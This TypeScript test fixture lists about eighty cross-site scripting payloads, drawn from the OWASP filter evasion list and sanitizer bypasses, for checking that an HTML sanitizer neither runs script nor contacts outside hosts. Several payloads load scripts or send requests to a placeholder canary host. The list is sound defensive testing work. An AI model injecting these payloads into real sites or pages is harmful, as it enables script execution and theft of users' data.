/** Flag on the window that a payload sets when it runs. */
export const RAN = 'scriptRan'

/** Host that no page of the product may ask anything of. */
export const CANARY = 'canary.example'

const RUN = `top.${RAN}=1`
const PIXEL = 'data:image/png;base64,iVBORw0KGgo='

/**
 * Texts that run a script, or tell an address outside who looks at them, where they are taken for HTML as they are.
 *
 * Those of parsers' disagreements follow the OWASP filter evasion list and published bypasses of sanitizers.
 */
export const SCRIPT_PAYLOADS: readonly { why: string; text: string }[] = [
  { why: 'a script', text: `<script>${RUN}</script>` },
  { why: 'a script that asks elsewhere', text: `<script>fetch('https://${CANARY}/ran')</script>` },
  { why: 'a script from outside', text: `<script src=https://${CANARY}/a.js></script>` },
  { why: 'a script in odd case with an attribute', text: `<ScRiPt x=1>${RUN}</sCrIpT >` },
  { why: 'a script inside a script’s name', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { why: 'a script that is not closed', text: `<script>${RUN}//` },
  { why: 'a script after a NUL in its name', text: `<scr\u0000ipt>${RUN}</scr\u0000ipt>` },
  { why: 'a tag opened twice', text: `<<script>${RUN}//<</script>` },
  { why: 'a slash for a space', text: `<img/src=x/onerror=${RUN}>` },
  { why: 'a picture that fails', text: `<img src=x onerror="${RUN}">` },
  { why: 'a good picture with a handler', text: `<img src="${PIXEL}" onerror="${RUN}" onload="${RUN}">` },
  { why: 'quotes that end early', text: `<img """><script>${RUN}</script>">` },
  { why: 'a handler after a tab', text: `<img src=x\tonerror\t=\t"${RUN}">` },
  { why: 'a handler after a form feed', text: `<img src=x\u000conerror="${RUN}">` },
  {
    why: 'an alternative text that ends the attribute',
    text: `<img src="${PIXEL}" alt="&quot; onerror=&quot;${RUN}">`,
  },
  { why: 'a picture of another host', text: `<img src="https://${CANARY}/seen.png">` },
  { why: 'a picture without a scheme', text: `<img src="//${CANARY}/seen.png">` },
  { why: 'several pictures to choose from', text: `<img srcset="https://${CANARY}/seen.png 1x">` },
  { why: 'a picture that is a drawing', text: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">` },
  { why: 'a picture that is a page', text: `<img src="data:text/html,<script>${RUN}</script>">` },
  { why: 'a script as a picture', text: `<img src="javascript:${RUN}">` },
  { why: 'a script as a picture, in parts', text: `<img src="jav&#x0A;ascript:${RUN}">` },
  { why: 'a drawing that loads', text: `<svg onload="${RUN}">` },
  { why: 'a script in a drawing', text: `<svg><script>${RUN}</script></svg>` },
  {
    why: 'a drawing that is animated into a link',
    text: `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  },
  { why: 'a page in a drawing', text: `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>` },
  { why: 'a drawing used from outside', text: `<svg><use href="https://${CANARY}/a.svg#x"/></svg>` },
  { why: 'a formula with a link', text: `<math><a xlink:href="javascript:${RUN}">x</a></math>` },
  {
    why: 'a formula that hides a style',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  },
  {
    why: 'a form in a formula',
    text: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  },
  { why: 'a paragraph in a drawing’s style', text: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  { why: 'a noscript that ends in an attribute', text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { why: 'a template', text: `<template><img src=x onerror="${RUN}"></template>` },
  {
    why: 'a template with a shadow',
    text: `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  },
  { why: 'a textarea that ends in an attribute', text: `<textarea><p title="</textarea><img src=x onerror=${RUN}>">` },
  { why: 'a title that ends in an attribute', text: `<title><p title="</title><img src=x onerror=${RUN}>">` },
  { why: 'text that is raw for a parser only', text: `<xmp><img src=x onerror="${RUN}"></xmp>` },
  { why: 'a noembed that ends in an attribute', text: `<noembed><p title="</noembed><img src=x onerror=${RUN}>">` },
  { why: 'a comment that ends in an odd way', text: `<!--!><img src=x onerror="${RUN}">-->` },
  { why: 'a comment that is none', text: `<!--><script>${RUN}</script>-->` },
  { why: 'a CDATA section', text: `<![CDATA[><img src=x onerror="${RUN}">]]>` },
  { why: 'a processing instruction', text: `<?xml version="1.0"?><?x <img src=x onerror="${RUN}">?>` },
  { why: 'a frame with a page inside', text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>` },
  { why: 'a frame with a script', text: `<iframe src="javascript:parent.${RUN}"></iframe>` },
  { why: 'a frame from outside', text: `<iframe src=https://${CANARY}/frame></iframe>` },
  { why: 'an object', text: `<object data="data:text/html,<script>${RUN}</script>"></object>` },
  { why: 'an embedded page', text: `<embed src="javascript:${RUN}">` },
  { why: 'a page that is turned to', text: `<meta http-equiv=refresh content="0;url=https://${CANARY}/turned">` },
  { why: 'a base of all addresses', text: `<base href=https://${CANARY}/>` },
  { why: 'a style sheet', text: `<link rel=stylesheet href=https://${CANARY}/a.css>` },
  { why: 'a style that loads', text: `<style>@import 'https://${CANARY}/a.css';</style>` },
  { why: 'a style with an address', text: `<p style="background:url(https://${CANARY}/a.png)">x</p>` },
  { why: 'a style that is a script', text: `<p style="width:expression(${RUN})">x</p>` },
  {
    why: 'a style with escapes',
    text: `<p style="width:\\65xpression(${RUN});-moz-binding:url(//${CANARY}/a.xml)">x</p>`,
  },
  {
    why: 'alignment with more behind it',
    text: `<p style="text-align:center;background:url(//${CANARY}/a.png)">x</p>`,
  },
  { why: 'a page that covers everything', text: `<div style="position:fixed;inset:0" onpointermove="${RUN}">x</div>` },
  { why: 'a link with a script', text: `<a href="javascript:${RUN}">x</a>` },
  { why: 'a link with a script in entities', text: `<a href="&#106;&#97;vascript&colon;${RUN}">x</a>` },
  { why: 'a link with a script after control characters', text: `<a href="\u0001java\tscript:${RUN}">x</a>` },
  { why: 'a link with a page', text: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>` },
  { why: 'a form', text: `<form action="javascript:${RUN}"><button autofocus onfocus="${RUN}">x</button></form>` },
  { why: 'a field that takes the focus', text: `<input autofocus onfocus="${RUN}">` },
  { why: 'a list that is chosen from', text: `<select autofocus onfocus="${RUN}"><option>x</option></select>` },
  { why: 'details that open', text: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { why: 'text that moves', text: `<marquee onstart="${RUN}">x</marquee>` },
  { why: 'a film that fails', text: `<video><source onerror="${RUN}"></video>` },
  { why: 'a sound that fails', text: `<audio src=x onerror="${RUN}"></audio>` },
  {
    why: 'an end of an animation',
    text: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="${RUN}">x</p>`,
  },
  { why: 'a body', text: `<body onload="${RUN}" onpageshow="${RUN}">` },
  { why: 'an element of its own', text: `<x-element onclick="${RUN}" tabindex=1 id=x>x</x-element>` },
  {
    why: 'names that stand for the document’s own',
    text: `<form id=attributes><input name=parentNode></form><img name=currentScript src=x onerror="${RUN}">`,
  },
  { why: 'full-width signs', text: `＜script＞${RUN}＜/script＞<img src=x onerror＝"${RUN}" onerror="${RUN}">` },
  { why: 'text in another encoding', text: `+ADw-script+AD4-${RUN}+ADw-/script+AD4-<img src=x onerror="${RUN}">` },
  {
    why: 'an invisible sign in a name',
    text: `<scr\u200bipt>${RUN}</scr\u200bipt><img src=x on\u200berror="${RUN}" onerror="${RUN}">`,
  },
  { why: 'text from right to left', text: `\u202e<img src=x onerror="${RUN}">` },
  { why: 'markup in entities, which stays text', text: `&lt;img src=x onerror="${RUN}"&gt;` },
  { why: 'what frameworks fill in', text: `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>` },
  { why: 'a very deep nesting', text: `${'<p><strong>'.repeat(600)}<img src=x onerror="${RUN}">` },
]

/** Those that fit into a name of so many characters, without control characters, which no name may have. */
export function namesWithScript(maxLength: number): string[] {
  return SCRIPT_PAYLOADS.map(({ text }) => text).filter((text) => text.length <= maxLength && !/\p{Cc}/u.test(text))
}
